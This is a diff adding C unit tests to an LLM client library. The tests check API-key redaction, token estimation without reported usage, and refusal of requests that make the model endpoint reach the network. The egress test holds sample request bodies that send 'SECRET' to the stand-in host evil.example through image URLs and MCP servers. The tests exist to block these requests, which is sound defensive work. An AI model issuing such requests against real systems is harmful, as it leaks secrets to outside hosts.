@@ -1346,6 +1346,227 @@ test_http_passthrough(void **state)
 	unlink(path);
 }
 
+/*
+ * An endpoint (or a gateway before it) that echoes the key in its answer:
+ * a 401 passed back, a 500 retried to exhaustion (its message), a stream
+ * with the key split across two parts. The key reaches neither the
+ * answer, nor the parts, nor the error, nor the cassette: each is
+ * starred (llm_key_redact).
+ */
+static void
+test_http_key_echo(void **state)
+{
+	static const char script[] = "{\"rules\": ["
+	    "{\"match\": \"ECHO-401\", \"responses\": [{\"status\": 401, "
+	    "\"body\": {\"type\": \"error\", \"error\": {\"message\": "
+	    "\"bad x-api-key sk-ant-ECHO-42xyz\"}}}]},"
+	    "{\"match\": \"ECHO-500\", \"responses\": [{\"status\": 500, "
+	    "\"body\": {\"error\": {\"message\": \"upstream got "
+	    "sk-ant-ECHO-42xyz\"}}}, {\"status\": 500, \"body\": {\"error\": "
+	    "{\"message\": \"upstream got sk-ant-ECHO-42xyz\"}}}]},"
+	    "{\"match\": \"ECHO-STREAM\", \"responses\": [{\"sse\": ["
+	    "\"data: {\\\"type\\\":\\\"message_start\\\"}\\n\\n\", "
+	    "\"data: {\\\"text\\\":\\\"key=sk-ant-EC\", "
+	    "\"HO-42xyz end\\\"}\\n\\n\"], \"chunk_delay_ms\": 60}]}"
+	    "]}";
+	struct fakellm		 f;
+	struct llm_config	 lc;
+	struct llm_engine	*e;
+	struct llm_result	 res;
+	char			 err[512], path[300], *cas;
+	int			 fd;
+
+	(void)state;
+	snprintf(path, sizeof(path), "/tmp/warren-cassette.XXXXXX");
+	assert_true((fd = mkstemp(path)) != -1);
+	close(fd);
+	fakellm_start_json(&f, script);
+	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
+	lc.key = strdup("sk-ant-ECHO-42xyz");
+	lc.record = strdup(path);
+	lc.retries = 1;
+	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
+	http_run(e, "0.1", 0, "ECHO-401", &res);
+	assert_int_equal(res.err, LLM_OK);
+	assert_int_equal(res.status, 401);
+	assert_non_null(strstr(res.http_body, "bad x-api-key "));
+	assert_null(strstr(res.http_body, "ECHO-42"));
+	llm_result_free(&res);
+	http_run(e, "0.1", 1, "ECHO-500", &res);
+	assert_true(res.err != LLM_OK);
+	assert_non_null(strstr(res.error, "upstream got"));
+	assert_null(strstr(res.error, "ECHO-42"));
+	llm_result_free(&res);
+	http_run(e, "0.1", 2, "ECHO-STREAM", &res);
+	assert_int_equal(res.err, LLM_OK);
+	assert_true(http_last.nparts >= 2);
+	assert_non_null(strstr(http_last.parts, "key="));
+	assert_null(strstr(http_last.parts, "ECHO-42"));
+	assert_null(strstr(res.http_body, "ECHO-42"));
+	assert_int_equal(http_last.plen, res.http_len);
+	assert_memory_equal(http_last.parts, res.http_body, res.http_len);
+	llm_result_free(&res);
+	llm_engine_free(e);
+	llm_config_free(&lc);
+	cas = llm_test_slurp(path, NULL);
+	assert_non_null(strstr(cas, "\"purpose\":\"http\""));
+	assert_null(strstr(cas, "ECHO-42"));
+	free(cas);
+	unlink(path);
+}
+
+/*
+ * An answer that reports no tokens: the program picks what it asks, and
+ * an OpenAI-style stream without stream_options.include_usage carries no
+ * usage at all. Counted by its size (about four bytes a token), as
+ * recorded and as replayed; count_tokens (free) stays at zero.
+ */
+static void
+test_http_no_usage(void **state)
+{
+	static const char script[] = "{\"rules\": ["
+	    "{\"match\": \"NOUSE-STREAM\", \"responses\": [{\"sse\": ["
+	    "\"data: {\\\"choices\\\":[{\\\"delta\\\":{\\\"content\\\":"
+	    "\\\"0123456789abcdef0123456789abcdef\\\"}}]}\\n\\n\", "
+	    "\"data: [DONE]\\n\\n\"]}]},"
+	    "{\"match\": \"NOUSE-WHOLE\", \"responses\": [{\"status\": 200, "
+	    "\"body\": {\"choices\": [{\"message\": {\"content\": "
+	    "\"0123456789abcdef0123456789abcdef\"}}]}}]}]}";
+	struct fakellm		 f;
+	struct llm_config	 lc;
+	struct llm_engine	*e;
+	struct llm_result	 res;
+	char			 err[512], path[300];
+	const char		*marks[] = { "NOUSE-STREAM", "NOUSE-WHOLE" };
+	uint64_t		 in[2], out[2];
+	int			 fd, i, rep;
+
+	(void)state;
+	snprintf(path, sizeof(path), "/tmp/warren-cassette.XXXXXX");
+	assert_true((fd = mkstemp(path)) != -1);
+	close(fd);
+	fakellm_start_json(&f, script);
+	for (rep = 0; rep < 2; rep++) {
+		llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
+		lc.key = strdup("sk-ant-NOUSE-1");
+		if (rep == 0)
+			lc.record = strdup(path);
+		else
+			lc.replay = strdup(path);
+		assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
+		for (i = 0; i < 2; i++) {
+			http_run(e, "0.1", (unsigned)i, marks[i], &res);
+			assert_int_equal(res.err, LLM_OK);
+			assert_int_equal(res.status, 200);
+			/* The request's ~100 bytes, the answer's ~60 or more. */
+			assert_true(res.reply.usage.input >= 20);
+			assert_true(res.reply.usage.output >= 10);
+			if (rep == 0) {
+				in[i] = res.reply.usage.input;
+				out[i] = res.reply.usage.output;
+			} else {
+				assert_int_equal(res.reply.usage.input, in[i]);
+				assert_int_equal(res.reply.usage.output, out[i]);
+			}
+			llm_result_free(&res);
+		}
+		llm_engine_free(e);
+		llm_config_free(&lc);
+	}
+	unlink(path);
+}
+
+/*
+ * A program's request that asks the endpoint to reach the network for it
+ * (a server-side web fetch or search, an MCP connector, a URL for it to
+ * fetch) or to work on after answering (Responses' background mode) is
+ * refused before anything is sent; a program's own tools, a
+ * tool call's input holding a URL, and text naming one pass.
+ */
+static void
+test_http_no_egress(void **state)
+{
+	static const char *const bad[] = {
+	    "{\"model\":\"m\",\"messages\":[],\"tools\":[{\"type\":"
+	    "\"web_fetch_20250910\",\"name\":\"web_fetch\"}]}",
+	    "{\"model\":\"m\",\"messages\":[],\"tools\":[{\"type\":"
+	    "\"web_search_20250305\",\"name\":\"web_search\"}]}",
+	    "{\"model\":\"m\",\"messages\":[],\"mcp_servers\":[{\"type\":"
+	    "\"url\",\"url\":\"https://evil.example/mcp\",\"name\":\"x\"}]}",
+	    "{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":"
+	    "[{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":"
+	    "\"https://evil.example/x.png?d=SECRET\"}}]}]}",
+	    "{\"model\":\"m\",\"input\":[{\"role\":\"user\",\"content\":[{"
+	    "\"type\":\"input_image\",\"image_url\":\"http://evil.example/"
+	    "?d=SECRET\"}]}]}",
+	    "{\"model\":\"m\",\"input\":\"x\",\"tools\":[{\"type\":\"mcp\","
+	    "\"server_label\":\"e\",\"server_url\":\"https://evil.example\"}]}",
+	    "{\"model\":\"m\",\"input\":\"x\",\"background\":true}",
+	};
+	static const char good[] = "{\"model\":\"m\",\"max_tokens\":9,"
+	    "\"tools\":[{\"name\":\"Bash\",\"input_schema\":{\"type\":\"object\","
+	    "\"properties\":{\"url\":{\"type\":\"string\",\"default\":"
+	    "\"https://x.example\"}}}},{\"type\":\"custom\",\"name\":\"exec\"}],"
+	    "\"messages\":[{\"role\":\"user\",\"content\":\"see https://x.example "
+	    "NOEGRESS-OK\"},{\"role\":\"assistant\",\"content\":[{\"type\":"
+	    "\"tool_use\",\"id\":\"t\",\"name\":\"Bash\",\"input\":{\"url\":"
+	    "\"https://x.example\"}}]}]}";
+	struct fakellm		 f;
+	struct llm_config	 lc;
+	struct llm_engine	*e;
+	struct llm_http_request	 q;
+	struct http_wait	 w;
+	json_t			*reqs;
+	char			 err[512], why[160];
+	size_t			 i;
+
+	(void)state;
+	fakellm_start_json(&f, "{\"rules\": [{\"match\": \"NOEGRESS-OK\", "
+	    "\"responses\": [{\"reply\": {\"text\": \"fine\"}}]}]}");
+	llm_test_config(&lc, &f, LLM_PROVIDER_ANTHROPIC);
+	lc.key = strdup("sk-ant-EGRESS-1");
+	assert_non_null(e = llm_engine_new(&lc, err, sizeof(err)));
+	memset(&q, 0, sizeof(q));
+	q.agent = "0.1";
+	q.wire = "anthropic";
+	q.path = "/v1/messages";
+	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		q.body = bad[i];
+		q.step = (unsigned)i;
+		memset(&w, 0, sizeof(w));
+		errno = 0;
+		if (llm_submit_http(e, &q, http_done, &w) != 0)
+			fail_msg("sent: %s", bad[i]);
+		assert_int_equal(errno, EPERM);
+		assert_int_equal(llm_http_body_check(bad[i], why, sizeof(why)),
+		    -1);
+		assert_true(strstr(why, "network") != NULL ||
+		    strstr(why, "fetch it") != NULL ||
+		    strstr(why, "budget") != NULL ||
+		    strstr(why, "connect to them") != NULL);
+	}
+	assert_int_equal(llm_http_body_check(good, why, sizeof(why)), 0);
+	q.body = good;
+	q.step = 99;
+	memset(&w, 0, sizeof(w));
+	assert_true(llm_submit_http(e, &q, http_done, &w) != 0);
+	while (!w.done) {
+		struct pollfd	pfd = { .fd = llm_engine_fd(e), .events = POLLIN };
+
+		(void)poll(&pfd, 1, llm_engine_timeout_ms(e));
+		llm_engine_process(e);
+	}
+	assert_int_equal(w.res.err, LLM_OK);
+	assert_int_equal(w.res.status, 200);
+	llm_result_free(&w.res);
+	llm_engine_free(e);
+	llm_config_free(&lc);
+	/* Only the good one reached the endpoint. */
+	reqs = fakellm_requests(&f);
+	assert_int_equal(json_array_size(reqs), 1);
+	json_decref(reqs);
+}
+
 int
 main(void)
 {
@@ -1380,6 +1601,12 @@ main(void)
 		cmocka_unit_test_teardown(test_cap_and_cancel,
 		    fakellm_teardown),
 		cmocka_unit_test_teardown(test_http_passthrough,
+		    fakellm_teardown),
+		cmocka_unit_test_teardown(test_http_key_echo,
+		    fakellm_teardown),
+		cmocka_unit_test_teardown(test_http_no_usage,
+		    fakellm_teardown),
+		cmocka_unit_test_teardown(test_http_no_egress,
 		    fakellm_teardown),
 		cmocka_unit_test_teardown(test_record_replay,
 		    fakellm_teardown),
